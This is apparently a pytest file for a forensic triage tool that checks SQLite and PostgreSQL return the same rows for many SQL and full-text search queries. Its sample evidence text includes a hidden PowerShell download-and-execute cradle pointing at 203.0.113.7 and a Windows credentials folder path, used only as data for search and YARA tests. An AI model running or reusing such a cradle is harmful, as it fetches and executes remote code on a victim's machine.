"""The case package's SQLite statements said in PostgreSQL (case/dialect.py, case/postgres.py): each tricky
statement runs on the same rows in SQLite (sqlite3, through a case made by the same migrations) and in a real
PostgreSQL server (lab_postgres) through PostgresCase, and must give SQLite's answer, which is the truth."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlite_utils

from cybertriage import lab
from cybertriage.case import postgres
from cybertriage.case.search import SHIFT, SOURCES
from cybertriage.case.store import open_case

FILES = [  # id, path, name, inode (text), deleted, size, mtime, ext_mismatch
    (1, "/Docs/ReadMe.TXT", "ReadMe.TXT", "5", 0, 120, "2024-03-01T09:30:00Z", 0),
    (2, "/docs/readme_old.txt", "readme_old.txt", "6", 1, 40, None, 1),
    (3, "/Users/bob/Überweisung.pdf", "Überweisung.pdf", "7", 1, 0, "2023-01-01T00:00:00Z", None),
    (4, "/tmp/100%_done", "100%_done", None, None, 7, None, 0),
    (5, "/Users/alice/notes.txt", "notes.txt", "12", 0, 300, "2022-05-05T05:05:05Z", 1),
]
TEXTS = [  # bodies indexed as extracted text (content_fts), as FTS5 reads them
    "Alice wrote to bob@example.com about the invoice_update.zip (2024-03-01).",
    "Die Überweisung von 1.500 EUR ist erledigt; café crème.",
    "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
    "Nothing to see: C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Credentials",
    "new invoices, invoice numbers and an invoicing run",
]


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory, lab_postgres: lab.LocalPostgres
           ) -> Iterator[tuple[sqlite_utils.Database, postgres.PostgresCase]]:
    """A case in SQLite and one in PostgreSQL, the same rows written into each through its own connection."""
    folder = tmp_path_factory.mktemp("dialect")
    sqlite_db = open_case(folder / "sqlite", create=True)
    pg = postgres.connect(postgres.create(lab_postgres.url, folder / "postgres"), folder / "postgres")
    for db in (sqlite_db, pg):
        db.execute("INSERT INTO evidence (id, path, status) VALUES (1, '/e/disk.img', 'done')")
        for row in FILES:
            db.execute("INSERT INTO files (id, evidence_id, path, name, inode, deleted, size, mtime, ext_mismatch) "
                       "VALUES (?, 1, ?, ?, ?, ?, ?, ?, ?)", list(row))
        for number, body in enumerate(TEXTS, 1):
            db.execute("INSERT INTO content_fts (rowid, body) VALUES (?, ?)", [(SOURCES["text"] << SHIFT) + number, body])
        db.execute("INSERT INTO findings (id, evidence_id, object_kind, object_id, analyzer, title, severity, "
                   "severity_rank, detail) VALUES (1, 1, 'file', 1, 'yara', 'YARA PowerShell cradle', 'high', 3, ?)",
                   [json.dumps({"rule": {"name": "Cradle", "tags": ["ps"]}, "count": 2})])
        db.execute("INSERT INTO findings (id, evidence_id, object_kind, object_id, analyzer, title, severity, "
                   "severity_rank, detail) VALUES (2, 1, 'file', 3, 'keywords', 'Keyword hits (iban)', 'info', 0, ?)",
                   [json.dumps({"rule": {"name": "iban"}})])
        db.conn.commit()
    yield sqlite_db, pg
    sqlite_db.close()
    pg.close()


def both(stores: tuple[sqlite_utils.Database, postgres.PostgresCase], sql: str, params: Any = ()) -> list[list[Any]]:
    """The rows of `sql` in SQLite, after checking PostgreSQL gives the same rows."""
    sqlite_db, pg = stores
    expected = [list(row) for row in sqlite_db.execute(sql, params).fetchall()]
    assert [list(row) for row in pg.execute(sql, params).fetchall()] == expected, sql
    return expected


@pytest.mark.parametrize(("sql", "params"), [
    ("SELECT id FROM files WHERE path LIKE ? ORDER BY id", ["%readme%"]),  # LIKE ignores ASCII case
    ("SELECT id FROM files WHERE name LIKE ? ESCAPE '\\' ORDER BY id", ["%\\_%"]),
    ("SELECT id, name LIKE '%.txt' FROM files ORDER BY id", []),  # a comparison as a value: 1 or 0
    ("SELECT id, mtime FROM files ORDER BY mtime, id", []),  # NULLs first
    ("SELECT id, mtime FROM files ORDER BY mtime DESC, id", []),  # NULLs last
    ("SELECT id FROM files WHERE deleted ORDER BY id", []),  # SQLite's truth: non-zero
    ("SELECT id FROM files WHERE NOT ext_mismatch ORDER BY id", []),
    ("SELECT sum(deleted = 1), count(*), sum(size), avg(size) FROM files", []),
    ("SELECT id, size > 100 AND deleted FROM files ORDER BY id", []),
    ("SELECT id FROM files WHERE mtime IS ? ORDER BY id", [None]),
    ("SELECT id FROM files WHERE mtime IS ? ORDER BY id", ["2023-01-01T00:00:00Z"]),
    ("SELECT id FROM files WHERE ? IS NULL OR deleted = ? ORDER BY id", [None, None]),
    ("SELECT id FROM files WHERE inode = ? ORDER BY id", [5]),  # an integer compared with text, as SQLite does
    ("SELECT evidence_id, group_concat(name, '|') FROM (SELECT * FROM files WHERE id < 3 ORDER BY id) "
     "GROUP BY evidence_id", []),
    ("SELECT group_concat(DISTINCT deleted) FROM (SELECT deleted FROM files WHERE deleted = 1)", []),
    ("SELECT id, json_extract(detail, '$.rule.name') FROM findings ORDER BY id", []),  # (numbers come as text)
    ("SELECT id FROM findings WHERE json_extract(detail, '$.count') = ?", [2]),
    ("SELECT value FROM findings, json_each(json_extract(detail, '$.rule.tags')) ORDER BY value", []),
    ("WITH chosen AS (SELECT id FROM files WHERE deleted) SELECT path FROM files WHERE id IN chosen ORDER BY id", []),
    ("SELECT size * 2 AS doubled FROM files WHERE doubled > ? ORDER BY id", [100]),  # an alias in WHERE
    ("SELECT f.evidence_id, e.path, count(*) FROM files f JOIN evidence e ON e.id = f.evidence_id "
     "GROUP BY f.evidence_id", []),  # a bare column of a grouped query
    ("SELECT count(*) FROM (SELECT deleted FROM files GROUP BY deleted)", []),  # a subquery in FROM with no alias
    ("SELECT g.object_id, count(*), (SELECT f.name FROM files f WHERE f.id = g.object_id) FROM findings g "
     "GROUP BY g.object_id ORDER BY g.object_id", []),  # a correlated subquery of a grouped query
    ("SELECT id FROM files ORDER BY id LIMIT ?", [-1]),  # -1: no limit
    ("SELECT coalesce(inode, '') || '/' || coalesce(deleted, '') FROM files ORDER BY id", []),
    ("SELECT instr(path, 'alice'), rowid FROM files ORDER BY rowid", []),
])
def test_a_statement_gives_sqlites_rows(stores: Any, sql: str, params: list[Any]) -> None:
    assert both(stores, sql, params) or sql.startswith("SELECT id FROM files WHERE mtime IS")


def test_insert_or_ignore_or_replace_and_lastrowid(stores: Any) -> None:
    sqlite_db, pg = stores
    for db in (sqlite_db, pg):
        with db.conn:
            db.conn.execute("INSERT OR IGNORE INTO case_info (key, value) VALUES (?, ?)", ["examiner", "first"])
            db.conn.execute("INSERT OR IGNORE INTO case_info (key, value) VALUES (?, ?)", ["examiner", "second"])
            db.conn.execute("INSERT OR REPLACE INTO case_info (key, value) VALUES (?, ?)", ["agency", "first"])
            db.conn.execute("INSERT OR REPLACE INTO case_info (key, value) VALUES (?, ?)", ["agency", "second"])
    assert both(stores, "SELECT key, value FROM case_info WHERE key IN ('examiner', 'agency') ORDER BY key") == [
        ["agency", "second"], ["examiner", "first"]]
    given = []
    for db in (sqlite_db, pg):
        with db.conn:
            cursor = db.conn.execute("INSERT INTO files (evidence_id, path, name) VALUES (1, '/new', 'new')")
            given.append((cursor.lastrowid, db.conn.execute("SELECT max(id) FROM files").fetchone()[0]))
    assert given[0] == (len(FILES) + 1, len(FILES) + 1)  # SQLite: the next id after the largest given
    assert given[1] == given[0]


def test_transactions_roll_back_as_sqlites_do(stores: Any) -> None:
    sqlite_db, pg = stores
    for db in (sqlite_db, pg):
        with pytest.raises(sqlite3.IntegrityError):
            with db.conn:
                db.conn.execute("INSERT INTO case_info (key, value) VALUES ('rolled back', 'x')")
                db.conn.execute("INSERT INTO case_info (key, value) VALUES ('rolled back', 'y')")
    assert both(stores, "SELECT count(*) FROM case_info WHERE key = 'rolled back'") == [[0]]


@pytest.mark.parametrize("query", [
    "alice", "ALICE", "invoice", "invoice*", "invoic*", '"invoice update"', '"new invoices"', "alice OR powershell",
    "invoice NOT alice", "(alice OR bob) AND invoice", "uberweisung", "Überweisung", "cafe", "203", '"203.0.113.7"',
    "credentials", "appdata roaming", "example", "bob", "nothing*", "zzz", '"..."', "users NOT alice",
])
def test_full_text_queries_find_what_fts5_finds(stores: Any, query: str) -> None:
    """MATCH over the content index, files_fts and findings_fts: the same rows as SQLite's FTS5."""
    both(stores, "SELECT rowid FROM content_fts WHERE content_fts MATCH ? ORDER BY rowid", [query])
    both(stores, "SELECT rowid FROM files_fts WHERE files_fts MATCH ? ORDER BY rowid", [query])
    both(stores, "SELECT rowid FROM findings_fts WHERE findings_fts MATCH ? ORDER BY rowid", [query])


def test_a_query_fts5_refuses_is_refused_alike(stores: Any) -> None:
    for db in stores:
        with pytest.raises(sqlite3.OperationalError, match="fts5: syntax error"):
            db.execute("SELECT rowid FROM content_fts WHERE content_fts MATCH ?", ["203.0.113.7"]).fetchall()


def test_rank_and_snippet_in_postgres(stores: Any) -> None:
    """bm25's order (best first) and snippet's marks around the words found."""
    sqlite_db, pg = stores
    sql = ("SELECT rowid, snippet(content_fts, 0, '<', '>', '…', 8) FROM content_fts WHERE content_fts MATCH ? "
           "ORDER BY bm25(content_fts), rowid")
    expected = sqlite_db.execute(sql, ["invoice*"]).fetchall()
    got = pg.execute(sql, ["invoice*"]).fetchall()
    assert [row[0] for row in got] == [row[0] for row in expected]
    assert all("<invoic" in snippet.lower() for _, snippet in got)


def test_the_same_rows_through_an_application_connection(stores: Any, tmp_path: Path) -> None:
    """The application's read-only connection: rows by name, and no writes."""
    _, pg = stores
    conn = postgres.read_only(pg.address, pg.case_dir)
    try:
        conn.row_factory = sqlite3.Row
        row = conn.execute("SELECT id, path FROM files WHERE id = ?", [1]).fetchone()
        assert (row["id"], row["path"]) == (1, "/Docs/ReadMe.TXT")
        with pytest.raises(sqlite3.Error):
            conn.execute("DELETE FROM tags")
    finally:
        conn.close()
